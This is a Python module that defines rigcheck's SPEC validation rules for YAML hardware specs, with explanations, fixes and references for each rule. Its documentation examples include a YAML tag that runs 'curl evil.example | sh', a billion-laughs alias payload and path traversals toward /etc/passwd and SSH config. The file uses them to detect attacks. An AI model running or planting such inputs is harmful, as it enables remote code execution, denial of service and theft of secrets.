"""The SPEC rules: traps in spec files and the problems that stop a file from loading.

They belong to the core, beside the engine's and lint's rules: the loader, discovery, lint and the
estimators raise them (by the codes in :mod:`rigcheck.core.spec.spec_codes`). The built-in plugin
``rigcheck.plugins.spec.yaml_traps`` reports the traps as findings; problems that make a file unreadable
(SPEC004, SPEC005, SPEC010-SPEC014) stop ``check`` with exit code 2 (``lint`` reports them as
findings), and their rules are declared here so that ``rigcheck explain`` knows them.
"""

from __future__ import annotations

from rigcheck.core.engine.findings import Severity
from rigcheck.core.engine.rules import Rule, RuleDocs
from rigcheck.core.spec import spec_codes as codes

_YAML12 = "YAML 1.2.2 core schema, https://yaml.org/spec/1.2.2/#1032-tag-resolution"
_YAML11_BOOL = "YAML 1.1 boolean type, https://yaml.org/type/bool.html"

DUPLICATE_KEY = Rule(
    code=codes.DUPLICATE_KEY,
    name="duplicate-key",
    summary="A mapping has the same key twice; YAML loaders silently keep the last value",
    severity=Severity.FAIL,
    docs=RuleDocs(
        what="Finds a key written twice in the same mapping of a spec file.",
        why="YAML says keys are unique, but PyYAML and most loaders keep the last value without a word. In a "
        "reviewed pull request the first value is the one readers see, while the second is the one used.",
        example="```yaml\nnodes:\n  - name: ws\n    memory_gib: 128\n    gpus: {model: RTX 3090, count: 2}\n"
        "    memory_gib: 64      # SPEC001: the 128 above is ignored\n```",
        fix="Delete one of the two lines, keeping the value you mean.",
        references=(
            "YAML 1.2.2 section 3.2.1.1: mapping keys are unique, https://yaml.org/spec/1.2.2/",
            "yamllint rule key-duplicates, https://yamllint.readthedocs.io/en/stable/rules.html",
        ),
    ),
)

YAML11_BOOLEAN = Rule(
    code=codes.YAML11_BOOLEAN,
    name="yaml11-boolean",
    summary="An unquoted yes/no/on/off is a boolean to YAML 1.1 tools and a string to YAML 1.2 tools",
    severity=Severity.WARN,
    docs=RuleDocs(
        what="Finds unquoted `yes`, `no`, `on`, `off` (any capitalisation) used as keys or values.",
        why="rigcheck reads YAML 1.2, where these are strings, but PyYAML and many CI systems read YAML 1.1, "
        "where they are `true` and `false`. The same file then means different things to different tools "
        "(the classic case: `on:` in a GitHub workflow, or the country code `NO`).",
        example="```yaml\ngpus:\n  model: RTX 4090\n  ecc: on        # SPEC002: write true\n```",
        fix="Write `true` or `false` for a boolean; quote the word (`'on'`) when you mean the text.",
        references=(
            _YAML11_BOOL,
            _YAML12,
            "yamllint rule truthy, https://yamllint.readthedocs.io/en/stable/rules.html",
        ),
    ),
)

OCTAL_LOOKING_NUMBER = Rule(
    code=codes.OCTAL_LOOKING_NUMBER,
    name="octal-looking-number",
    summary="A number with a leading zero is decimal to rigcheck and octal (or text) to YAML 1.1 tools",
    severity=Severity.WARN,
    docs=RuleDocs(
        what="Finds unquoted integers written with a leading zero, such as `0755` or `08`.",
        why="Under YAML 1.2 (rigcheck) `0755` is 755; under YAML 1.1 (PyYAML) it is the octal 493, and `08` is "
        "the string '08'. A port, a count or a size written this way means different numbers to different "
        "tools.",
        example="```yaml\nlauncher:\n  master_port: 029500   # SPEC003: 29500 here, a string to PyYAML\n```",
        fix="Drop the leading zero, or write `0o755` when you mean octal.",
        references=(_YAML12, "YAML 1.1 integer type, https://yaml.org/type/int.html"),
    ),
)

DECIMAL_MEMORY_SIZE = Rule(
    code=codes.DECIMAL_MEMORY_SIZE,
    name="decimal-gigabytes-for-memory",
    summary="A memory size in a GiB field is written in decimal units ('64GB'), which reads 7% smaller",
    severity=Severity.WARN,
    docs=RuleDocs(
        what="Finds a memory field measured in GiB (`memory_gib`, a GPU's `memory_gib`) whose value is written "
        "with a decimal byte unit: `64GB`, `512 MB`, `1TB`. Reported only where found.",
        why="Units convert exactly: `GB` is 10^9 bytes, so `memory_gib: 64GB` is 59.6 GiB. Memory is sold in "
        "binary sizes under decimal names (a '64 GB' DIMM kit or a '24 GB' GPU holds 64 or 24 GiB; JEDEC "
        "100B.01 keeps the binary meaning for memory), so the rig is checked with 7% less RAM or VRAM than "
        "it has, and a near miss becomes a false failure.",
        example="```yaml\nmemory_gib: 64GB   # SPEC006: read as 59.6 GiB\n```",
        fix="Write the number alone (`memory_gib: 64`) or with a binary unit (`'64 GiB'`); keep the decimal "
        "unit only when it is what you mean.",
        references=(
            "JEDEC JESD100B.01, Terms, Definitions, and Letter Symbols for Microcomputers, Microprocessors, "
            "and Memory Integrated Circuits (kilo/mega/giga as powers of 2 for memory), "
            "https://www.jedec.org/standards-documents/docs/jesd-100b01",
            "IEC 80000-13 binary prefixes, https://www.iso.org/standard/87648.html",
        ),
    ),
)

UNSAFE_TAG = Rule(
    code=codes.UNSAFE_TAG,
    name="unsafe-yaml-tag",
    summary="A YAML tag other than the core ones (e.g. !!python/object) stops loading",
    severity=Severity.FAIL,
    docs=RuleDocs(
        what="Refuses any explicit tag other than the core YAML types (`!!str`, `!!int`, `!!float`, `!!bool`, "
        "`!!null`, `!!seq`, `!!map`, `!!timestamp`), such as `!!python/object/apply:os.system`.",
        why="Specs come from pull requests. Tags that construct objects are how YAML files run code "
        "(CVE-2017-18342 in PyYAML's full loader); rigcheck builds plain data only and stops with exit "
        "code 2 instead of guessing what the tag meant.",
        example="```yaml\nname: !!python/object/apply:os.system ['curl evil.example | sh']   # SPEC004\n```",
        fix="Remove the tag; write the value as plain YAML.",
        references=(
            "PyYAML yaml.load safety, https://github.com/yaml/pyyaml/wiki/PyYAML-yaml.load(input)-Deprecation",
            "CVE-2017-18342, https://nvd.nist.gov/vuln/detail/CVE-2017-18342",
        ),
    ),
)

ALIAS_BOMB = Rule(
    code=codes.ALIAS_BOMB,
    name="alias-expansion-over-budget",
    summary="Anchors and aliases expand far beyond what was written (billion laughs), or refer to themselves",
    severity=Severity.FAIL,
    docs=RuleDocs(
        what="Refuses a file whose aliases would expand it to more than 10 times the nodes written plus 10,000, "
        "and aliases that refer to their own anchor.",
        why="Nested aliases grow exponentially: nine lines can expand to a billion strings and exhaust memory "
        "(the 'billion laughs' attack). rigcheck measures the expansion before building anything, so the "
        "refusal takes microseconds.",
        example="```yaml\na: &a [lol, lol, lol, lol, lol, lol, lol, lol, lol]\nb: &b [*a, *a, *a, *a, *a, *a, *a, "
        "*a, *a]\n# ... seven more levels: SPEC005\n```",
        fix="Write the values out, or use fewer levels of aliases. Reusing one anchor per node group (`<<: *gpu`) "
        "stays well within the budget.",
        references=("Billion laughs attack, https://en.wikipedia.org/wiki/Billion_laughs_attack",),
    ),
)

INVALID_VALUE = Rule(
    code=codes.INVALID_VALUE,
    name="invalid-field-value",
    summary="A field has a value of the wrong type, out of range, or not one of its choices",
    severity=Severity.FAIL,
    docs=RuleDocs(
        what="Reports a spec field whose value does not validate: text where a number is expected "
        "(`memory_gib: lots`), a number out of range, a choice that does not exist, a missing required field.",
        why="A checker can only be as right as its inputs. rigcheck stops with exit code 2 and names the file, "
        "line, column and field, instead of checking a spec it cannot read as written.",
        example="```yaml\nmemory_gib: lots   # SPEC010: expected a number of GiB or a quantity such as '64 GiB'\n```",
        fix="Write the value as the message says; `rigcheck schema rig` prints every field with its type and "
        'unit. Quantities may carry a unit: `memory_gib: 64`, or `"64 GiB"`.',
        references=("rigcheck schemas: schemas/rig.schema.json, schemas/workload.schema.json",),
    ),
)

UNKNOWN_FIELD = Rule(
    code=codes.UNKNOWN_FIELD,
    name="unknown-field",
    summary="A field that the spec format does not have (usually a typo)",
    severity=Severity.FAIL,
    docs=RuleDocs(
        what="Reports a key that is not a field of the spec, with the nearest field name.",
        why="A misspelt field is otherwise silently ignored: `memroy_gib: 512` would leave the RAM unknown and "
        "the RAM rule would not run. Failing on unknown fields catches typos in review.",
        example="```yaml\nmemroy_gib: 512   # SPEC011: unknown field 'memroy_gib'; did you mean 'memory_gib'?\n```",
        fix="Correct the spelling; `rigcheck schema rig` lists the fields.",
        references=("pydantic extra='forbid', https://docs.pydantic.dev/latest/concepts/models/#extra-data",),
    ),
)

UNREADABLE_FILE = Rule(
    code=codes.UNREADABLE_FILE,
    name="unreadable-spec-file",
    summary="The file is not a YAML spec: binary, not UTF-8, empty, too large, malformed or too deep",
    severity=Severity.FAIL,
    docs=RuleDocs(
        what="Reports a file that cannot be read as one YAML document with a mapping at its top: binary data, "
        "text that is not UTF-8, an empty file, a file over 32 MiB (`RIGCHECK_MAX_SPEC_BYTES`), YAML "
        "syntax errors, several documents in one file, or nesting deeper than 64 levels.",
        why="These are not specs; rigcheck says so in one line with the position, and exits with code 2.",
        example="```\nrigs/a.yaml:3:5: error: not valid YAML: mapping values are not allowed here [SPEC012]\n```",
        fix="Fix the YAML at the line given, or point rigcheck at the right file.",
        references=("YAML 1.2.2, https://yaml.org/spec/1.2.2/",),
    ),
)

UNKNOWN_HARDWARE = Rule(
    code=codes.UNKNOWN_HARDWARE,
    name="unknown-hardware-name",
    summary="A GPU name that matches no catalog entry, or several",
    severity=Severity.FAIL,
    docs=RuleDocs(
        what="Reports a `gpus.model` that the hardware catalog cannot resolve, with the nearest names; or a name "
        "that matches several cards (`A100`: 40 or 80 GB, SXM or PCIe).",
        why="Every hardware rule reads the catalog's facts (memory, power, NVLink). Guessing between an A100 "
        "40GB and 80GB would make the memory verdict meaningless.",
        example="```yaml\ngpus:\n  model: RTX 3095   # SPEC013: unknown GPU 'RTX 3095'; did you mean 'RTX 3090'?\n```",
        fix="Write the full name (`rigcheck gpus QUERY` searches the catalog), or add the card with a plugin "
        "(`rigcheck_catalog` hook).",
        references=("rigcheck catalog: specs/hardware/gpus.yaml",),
    ),
)

OUTSIDE_ROOT = Rule(
    code=codes.OUTSIDE_ROOT,
    name="path-outside-checked-root",
    summary="A path resolves outside the checked repository, or to something that is not a regular file",
    severity=Severity.FAIL,
    docs=RuleDocs(
        what="Reports, without reading it, a file a spec or config names (`runs_on`, config `pairs`, `matrix`, "
        "`baseline`, a workload's `hf_config`) or the lint walk finds that resolves outside the checked root "
        "(an absolute path, `..`, or a symlink out of the repository), and a `*.yaml` that is a FIFO, a device "
        "or a socket. The root is `--root`, else the repository (the nearest `.git`) of the config or the "
        "working directory.",
        why="A pull request is untrusted: `runs_on: [/etc/passwd]` or a committed symlink to `~/.ssh/config` "
        "would otherwise be read and echoed into CI annotations, and a symlink to `/dev/zero` or a FIFO would "
        "exhaust memory or hang the job.",
        example="```yaml\nruns_on: [../../secrets.yaml]   # SPEC014: outside the checked root\n```",
        fix="Name files inside the repository (relative to the spec), or widen the root on purpose with "
        "`--root DIR`.",
        references=("docs/security.md",),
    ),
)


#: Every SPEC rule, in code order.
SPEC_RULES = (
    DUPLICATE_KEY,
    YAML11_BOOLEAN,
    OCTAL_LOOKING_NUMBER,
    DECIMAL_MEMORY_SIZE,
    UNSAFE_TAG,
    ALIAS_BOMB,
    INVALID_VALUE,
    UNKNOWN_FIELD,
    UNREADABLE_FILE,
    UNKNOWN_HARDWARE,
    OUTSIDE_ROOT,
)
